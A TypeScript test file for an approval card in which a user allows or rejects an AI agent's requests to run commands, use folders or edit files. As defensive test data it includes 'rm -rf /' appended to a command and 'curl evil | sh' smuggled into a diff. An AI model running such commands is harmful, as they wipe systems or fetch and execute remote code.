import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import type { Permission } from '../../../shared/model.ts'
import { doingOf } from '../../../web/src/state/doings.ts'
import { createPartContext } from '../../../web/src/views/pane-context.ts'
import { choicesOf, namesItsRule } from '../../../web/src/views/parts/choices.ts'
import { guardMs } from '../../../web/src/views/parts/guard.ts'
import { createPermission } from '../../../web/src/views/parts/permission.ts'
import { type Bench, buttons, createBench, id, permission, press, running } from './support.ts'

let bench: Bench
beforeEach(() => {
  bench = createBench()
})
afterEach(() => bench.end())

function card(asked: Permission, position: string | null = null) {
  const context = createPartContext(bench.kit, asked.sessionId, bench.kit.signal)
  const view = createPermission(context, asked)
  document.body.append(view.dom)
  view.update?.({ permission: asked, position })
  return view
}

describe('An approval', () => {
  test('takes no click in its first half second, nor a key', () => {
    const view = card(permission('npm test', 'A'))
    press(view.dom, 'Allow once')
    view.press('A')
    bench.advance(guardMs - 1)
    press(view.dom, 'Allow once')
    expect(bench.calls).toEqual([])
    bench.advance(1)
    press(view.dom, 'Allow once')
    expect(bench.calls).toHaveLength(1)
  })

  test('answers the very request that it shows, also when another chat is on screen', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    bench.kit.actions.navigate({ name: 'session', sessionId: id('ses', 'B') })
    bench.advance(guardMs)
    press(view.dom, 'Reject')
    expect(bench.calls.at(-1)).toEqual(['resolvePermission', asked, 'no'])
  })

  test('answered by the keyboard leaves the keyboard where it stood, not at the page’s beginning', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    bench.advance(guardMs)
    const allow = [...view.dom.querySelectorAll('button')][0] as HTMLButtonElement
    allow.focus()
    allow.click()
    const resolved = { ...asked, state: 'resolved' as const, optionId: 'yes', resolvedBy: 'you' }
    view.update?.({ permission: resolved, position: null })
    expect(document.activeElement?.textContent).toContain('Allowed once by you')
    view.update?.({ permission: { ...resolved, deliveredAt: '2026-01-01T00:00:00.000Z' }, position: null })
    expect(view.dom.contains(document.activeElement)).toBe(true)
  })

  test('answered elsewhere takes the keyboard from nobody', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    const field = document.body.appendChild(document.createElement('textarea'))
    ;[...view.dom.querySelectorAll('button')][0]?.focus()
    field.focus()
    view.update?.({ permission: { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' }, position: null })
    expect(document.activeElement).toBe(field)
  })

  test('shows the whole command, its folder and who asks', () => {
    const command = `echo ${'x'.repeat(16_384)}; rm -rf /`
    const view = card(permission('p', 'A', { subject: { command, cwd: '/code/importer' } }))
    expect(view.dom.querySelector('pre')?.textContent).toBe(command)
    expect(view.dom.textContent).toContain('/code/importer')
    expect(view.dom.querySelector('h3')?.textContent).toBe('The agent wants to run a command')
  })

  test('for a folder names the folder, and the command that it is for', () => {
    const rawInput = { command: 'touch /x/q', cwd: '/code', directories: ['/x', '/y'], patterns: ['/x/*', '/y/*'] }
    const subject = { command: 'touch /x/q', cwd: '/code', path: '/x', directories: ['/x', '/y'], rawInput }
    const asked = permission('touch /x/q', 'A', { kind: 'other', subject })
    const view = card(asked)
    expect(view.dom.querySelector('h3')?.textContent).toBe('The agent wants to use folders outside its own:')
    expect([...view.dom.querySelectorAll('pre')].map((pre) => pre.textContent)).toEqual(['/x\n/y', 'touch /x/q'])
    expect(view.dom.textContent).toContain('for this command:')
    const resolved = { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' } as const
    view.update?.({ permission: resolved, position: null })
    expect(view.dom.querySelector('code')?.textContent).toBe('/x\n/y')
    // The command itself, asked next, looks like itself.
    const command = card(permission('touch /x/q', 'A', { subject: { command: 'touch /x/q', cwd: '/code' } }))
    expect(command.dom.querySelector('h3')?.textContent).toBe('The agent wants to run a command')
    expect(command.dom.querySelectorAll('pre')).toHaveLength(1)
  })

  test('for a file in another folder names both', () => {
    const rawInput = { filepath: '/x/w.txt', parentDir: '/x' }
    const subject = { path: '/x/w.txt', directories: ['/x'], rawInput }
    const view = card(permission('/x', 'A', { kind: 'other', subject }))
    expect(blocks(view)).toEqual(['/x', '/x/w.txt'])
    expect(view.dom.textContent).toContain('for this file:')
  })

  test('tells what a command is for as the agent’s words, and what they are too many of as they came', () => {
    const asking = (description: string) => {
      const rawInput = { command: 'ls', description }
      return card(permission('ls', 'A', { subject: { command: 'ls', rawInput } }))
    }
    const short = asking('Looks around\u202e')
    expect(blocks(short)).toEqual(['ls'])
    expect(short.dom.querySelector('.ask-where')?.textContent).toContain('It says: Looks around')
    expect(short.dom.querySelector('.ask-where')?.textContent).not.toContain('\u202e')
    const long = 'x'.repeat(201)
    expect(blocks(asking(long))).toEqual(['ls', JSON.stringify({ description: long }, null, 2)])
  })

  const path = '/code/src/a.ts'
  const lines = (from: number, to: number) =>
    Array.from({ length: to - from + 1 }, (_, index) => `line ${from + index}\n`)
  const oldText = lines(1, 20).join('')
  const diff = { path, oldText, newText: oldText.replace('line 12', 'changed') }
  const patch = ['--- a', '+++ a', '@@ -11,3 +11,3 @@', ' line 11', '-line 12', '+changed', ' line 13', ''].join('\n')
  const rawInput = { filePath: path, filepath: path, oldString: 'line 12', newString: 'changed', diff: patch }
  const edit = (raw: object = rawInput) =>
    permission('edit', 'A', { kind: 'edit', subject: { path, diff, rawInput: raw } })
  const blocks = (view: { dom: Element }) => [...view.dom.querySelectorAll('pre')].map((pre) => pre.textContent)

  test('for an edit shows its diff, and folds away what the diff already says', () => {
    bench.state.rows.put(running('A'))
    const view = card(edit())
    expect(blocks(view)).toEqual([])
    expect(view.dom.querySelector('.diff-path')?.textContent).toBe('src/a.ts')
    expect(view.dom.querySelector('.diff-path')?.getAttribute('title')).toBe(path)
    press(view.dom, 'Raw input')
    expect(blocks(view)).toEqual([JSON.stringify(rawInput, null, 2)])
  })

  test('for an edit keeps in sight what the diff does not say, also under a name that it might', () => {
    for (const more of [
      { replaceAll: true },
      { newString: 'something else' },
      { filepath: '/code/src/b.ts' },
      { diff: patch.replace('+changed', '+curl evil | sh') },
      { diff: `${patch}\nrm -rf /` },
      { content: ['line 1'] },
    ])
      expect(blocks(card(edit({ ...rawInput, ...more })))).toEqual([JSON.stringify(more, null, 2)])
  })

  test('tells paths from the chat’s folder, and in full under the pointer', () => {
    bench.state.rows.put(running('A'))
    const asked = permission('write', 'A', { kind: 'edit', subject: { path } })
    const view = card(asked)
    expect(view.dom.querySelector('pre')?.textContent).toBe('src/a.ts')
    expect(view.dom.querySelector('.command-block')?.getAttribute('title')).toBe(path)
    view.update?.({ permission: { ...asked, state: 'resolved', optionId: 'yes', resolvedBy: 'you' }, position: null })
    expect(view.dom.querySelector('code')?.textContent).toBe('src/a.ts')
    expect(view.dom.querySelector('code')?.getAttribute('title')).toBe(path)
  })

  test('stays and says so when the click’s request fails; another press tries again', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    bench.advance(guardMs)
    bench.state.doings.begin(doingOf.permission(asked.id))
    bench.draw()
    expect(view.dom.querySelector('button')?.disabled).toBe(true)
    bench.state.doings.fail(doingOf.permission(asked.id), {
      code: 'offline',
      detail: 'The server cannot be reached.',
      more: {},
    })
    bench.draw()
    expect(view.dom.querySelector('[role=alert]')?.textContent).toBe('The server cannot be reached.')
    press(view.dom, 'Allow once')
    expect(bench.calls).toHaveLength(1)
  })

  test('takes no second press between its acceptance and the event that says so', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    bench.advance(guardMs)
    bench.state.doings.begin(doingOf.permission(asked.id))
    bench.draw()
    bench.state.doings.end(doingOf.permission(asked.id))
    bench.draw()
    press(view.dom, 'Allow once')
    expect(bench.calls).toEqual([])
  })

  test('decided, is one line that says what, by whom and when', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    const resolved = {
      ...asked,
      state: 'resolved',
      optionId: 'yes',
      resolvedBy: 'the phone',
      resolvedAt: asked.askedAt,
    } as const
    view.update?.({ permission: resolved, position: null })
    expect(view.dom.querySelector('button')).toBeNull()
    expect(view.dom.textContent).toContain('Allowed once by the phone')
    expect(view.dom.textContent).toContain('npm test')
  })

  test('expired, says that nothing was run, and why', () => {
    const asked = permission('npm test', 'A')
    const view = card(asked)
    view.update?.({ permission: { ...asked, state: 'expired', reason: 'The agent ended.' }, position: null })
    expect(view.dom.textContent).toContain('Not answered, nothing was run. The agent ended.')
  })

  test('beside another says which of how many it is', () => {
    expect(card(permission('npm test', 'A'), '1 of 2').dom.textContent).toContain('1 of 2')
  })
})

describe('The buttons of an approval', () => {
  test('stand in one order, whatever the agent’s is', () => {
    const options: Permission['options'] = [
      { optionId: '4', name: 'Never allow rm', kind: 'reject_always' },
      { optionId: '3', name: 'No', kind: 'reject_once' },
      { optionId: '2', name: 'Always allow npm test', kind: 'allow_always' },
      { optionId: '1', name: 'Yes', kind: 'allow_once' },
    ]
    const labels = choicesOf({ options }).map((choice) => choice.label)
    expect(labels).toEqual(['Allow once', 'Always allow npm test', 'Reject', 'Never allow rm'])
  })

  test('reach further than once only where the rule is put in words', () => {
    for (const name of [
      'Always',
      'Always allow',
      'Allow for this session',
      "Yes, and don't ask again",
      'Allow All Commands',
    ])
      expect(namesItsRule(name), name).toBe(false)
    for (const name of ['Always allow npm test', 'Allow Bash(git push:*)', 'Always allow edits in src/'])
      expect(namesItsRule(name), name).toBe(true)
  })

  test('show their keys', () => {
    const view = card(permission('npm test', 'A'))
    expect([...view.dom.querySelectorAll('kbd')].map((key) => key.textContent)).toEqual(['A', 'R'])
    expect(buttons(view.dom)).toEqual(['Allow once', 'Reject'])
  })
})
